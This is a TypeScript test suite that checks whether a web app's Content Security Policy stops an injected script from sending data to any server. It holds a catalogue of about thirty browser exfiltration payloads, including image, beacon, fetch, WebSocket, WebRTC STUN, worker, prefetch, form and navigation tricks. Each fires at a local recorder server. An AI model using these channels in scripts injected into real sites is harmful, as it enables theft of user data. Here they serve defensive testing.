/**
 * A script that got into the page reaches no server, neither another one nor the page's own, by any way that the platform
 * lets a page close. What it does not let a page close is written down in the page's README.
 */
import dgram from 'node:dgram';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { App } from './app.js';
import { builtSite } from './built-site.js';
import { describePage } from './describe-page.js';

const reached: string[] = [];
let server: Server;
let recorder = '';
let stun = 0;
const socket = dgram.createSocket('udp4');

beforeAll(async () => {
  server = createServer((request, response) => {
    reached.push(`${request.method} ${request.url}`);
    response.setHeader('access-control-allow-origin', '*');
    response.end('recorded');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  recorder = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  socket.on('message', () => reached.push('STUN'));
  await new Promise<void>((resolve) => socket.bind(0, '127.0.0.1', resolve));
  stun = socket.address().port;
});
afterAll(() => {
  server.close();
  server.closeAllConnections();
  socket.close();
});
beforeEach(() => {
  reached.length = 0;
});

/** Ways to carry a secret out, each as the body of a function of `to`, an address, and `stun`, a port. */
const LOADS: Record<string, string> = {
  img: "new Image().src = to + '/img'",
  svg: "document.body.insertAdjacentHTML('beforeend', `<svg><image href='${to}/svg'/></svg>`)",
  video: "Object.assign(document.createElement('video'), { src: to + '/video', preload: 'auto' }).load()",
  background: 'document.body.style.backgroundImage = `url(${to}/background)`',
  fetch: "fetch(to + '/fetch', { mode: 'no-cors' }).catch(() => {})",
  xhr: "const x = new XMLHttpRequest(); x.open('GET', to + '/xhr'); x.onerror = () => {}; x.send()",
  beacon: "navigator.sendBeacon(to + '/beacon', 'secret')",
  socket: "new WebSocket(to.replace('http', 'ws') + '/socket')",
  events: "new EventSource(to + '/events')",
  ping: "document.body.append(Object.assign(document.createElement('a'), { href: '#p', ping: to + '/ping', id: 'p' })); p.click()",
  frame: "document.body.append(Object.assign(document.createElement('iframe'), { src: to + '/frame' }))",
  'frame that is led away':
    "const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.location = to + '/led'",
  object: "document.body.append(Object.assign(document.createElement('object'), { data: to + '/object' }))",
  embed: "document.body.append(Object.assign(document.createElement('embed'), { src: to + '/embed' }))",
  worker: "try { new Worker(to + '/worker') } catch {}",
  'imports of a worker':
    "new Worker(URL.createObjectURL(new Blob([`importScripts('${to}/imports')`], { type: 'text/javascript' })))",
  'fetch of a worker':
    "new Worker(URL.createObjectURL(new Blob([`fetch('${to}/worker-fetch', { mode: 'no-cors' })`], { type: 'text/javascript' })))",
  script: "document.head.append(Object.assign(document.createElement('script'), { src: to + '/script' }))",
  'script with the hash of the policy': `
    const policy = document.querySelector('meta[http-equiv=Content-Security-Policy]').content;
    const integrity = (policy.match(/sha256-[^']+/g) ?? ['sha256-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=']).join(' ');
    document.head.append(Object.assign(document.createElement('script'), { src: to + '/integrity', integrity, crossOrigin: 'anonymous' }))`,
  'import()': "import(to + '/import').catch(() => {})",
  style:
    "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: to + '/style' }))",
  prefetch:
    "document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: to + '/prefetch' }))",
  preload:
    "document.head.append(Object.assign(document.createElement('link'), { rel: 'preload', as: 'image', href: to + '/preload' }))",
  icon: "document.head.append(Object.assign(document.createElement('link'), { rel: 'icon', href: to + '/icon' }))",
  font: "new FontFace('f', `url(${to}/font)`).load().catch(() => {})",
  base: "document.head.prepend(Object.assign(document.createElement('base'), { href: to + '/base/' })); fetch('x').catch(() => {})",
  rules:
    "document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [to + '/rules'] }] }) }))",
  WebRTC: `
    const kind = globalThis.RTCPeerConnection ?? globalThis.webkitRTCPeerConnection;
    if (kind) { const c = new kind({ iceServers: [{ urls: 'stun:127.0.0.1:' + stun }] }); c.createDataChannel('x'); c.createOffer().then((offer) => c.setLocalDescription(offer)) }`,
};
const NAVIGATIONS: Record<string, string> = {
  location: "location.href = to + '/location'",
  replace: "location.replace(to + '/replace')",
  link: "document.body.append(Object.assign(document.createElement('a'), { href: to + '/link', id: 'go' })); go.click()",
  download:
    "document.body.append(Object.assign(document.createElement('a'), { href: to + '/download', download: 'x', id: 'get' })); get.click()",
  form: "const f = Object.assign(document.createElement('form'), { action: to + '/form' }); document.body.append(f); f.submit()",
  refresh:
    "document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=' + to + '/refresh' }))",
  'link of a frame': `
    const f = document.createElement('iframe'); document.body.append(f);
    f.contentDocument.body.innerHTML = "<a target='_parent' href='" + to + "/parent'>x</a>"; f.contentDocument.querySelector('a').click()`,
  window: "window.open(to + '/window')",
};

/**
 * What the policy of the page lets through to its own host, and only there: what the page is made of, and what is fetched ahead,
 * which browsers allow wherever any of the policy's directives does.
 */
const MADE_OF = ['worker', 'imports', 'script', 'integrity', 'import', 'style', 'prefetch'];

/** All of them at once: what each does is told by the address that it asks for. */
async function inject({ page }: App, ways: Record<string, string>, to: string): Promise<void> {
  const each = Object.values(ways).map((code) => `(() => { try { ${code} } catch {} })();`);
  const whole = `(() => { const to = ${JSON.stringify(to)}, stun = ${stun}; ${each.join('\n')} })()`;
  // A page that was led away answers no more.
  await page.evaluate(whole).catch(() => {});
}

await describePage('holds what was injected', ({ open, url }) => {
  describe.each(['site', 'file'] as const)('as %s', (kind) => {
    it('reaches no other server', async () => {
      const app = await (kind === 'site'
        ? open()
        : open({}, pathToFileURL(path.join(await builtSite('file'), 'index.html')).href));
      const home = app.page.url();
      await inject(app, LOADS, recorder);
      await app.page.waitForTimeout(2500);
      expect(reached).toEqual([]);
      // One by one, as the first that leads away would hide the others.
      for (const [name, code] of Object.entries(NAVIGATIONS)) {
        await inject(app, { [name]: code }, recorder);
        await app.page.waitForTimeout(400);
        expect([name, app.page.url().replace(/#.*/, ''), reached]).toEqual([name, home, []]);
      }
    }, 600_000);
  });

  it('reaches its own host by nothing but scripts, styles and workers, which it is made of', async () => {
    const app = await open();
    await app.page.waitForFunction(() => navigator.serviceWorker.ready.then(() => true));
    const own = url().replace(/\/$/, '');
    // What the policy refuses is told as a request that failed, and answered by nobody.
    const answered = new Set<string>();
    app.context.on('response', (response) => {
      const { protocol, pathname } = new URL(response.url());
      if (protocol === 'http:') answered.add(path.basename(pathname));
    });
    await inject(app, { ...LOADS, ...NAVIGATIONS }, `${own}/probe`);
    // Once these are answered, whatever else was asked for had its time, too.
    await expect
      .poll(() => ['script', 'import', 'style'].filter((name) => !answered.has(name)), { timeout: 30_000 })
      .toEqual([]);
    await app.page.waitForTimeout(1500);
    expect([...answered].filter((name) => !MADE_OF.includes(name))).toEqual([]);
  });

  it('still saves what it made, loads again, and is shown in no frame once it is kept', async () => {
    const app = await open();
    await app.page.waitForFunction(() => navigator.serviceWorker.ready.then(() => true));
    await app.page.reload();
    await app.ready();
    const download = app.page.waitForEvent('download');
    await app.page.evaluate(() => {
      const link = document.createElement('a');
      link.href = URL.createObjectURL(new Blob(['mine']));
      link.download = 'mine.txt';
      link.click();
    });
    expect((await download).suggestedFilename()).toBe('mine.txt');
    const response = await app.page.reload();
    expect(response?.headers()['content-security-policy']).toBe("frame-ancestors 'none'");
    expect(app.errors).toEqual([]);
  });

  // Last, as its requests may come late.
  it('the ways out are some: a page without a policy is left by them', async () => {
    const app = await open();
    await app.page.goto(`${recorder}/plain`);
    await inject(app, LOADS, recorder);
    const expected = ['img', 'background', 'fetch', 'beacon', 'frame', 'script', 'style', 'worker-fetch'];
    await expect
      .poll(() => expected.filter((name) => !reached.some((request) => request.endsWith(`/${name}`))))
      .toEqual([]);
  });
});
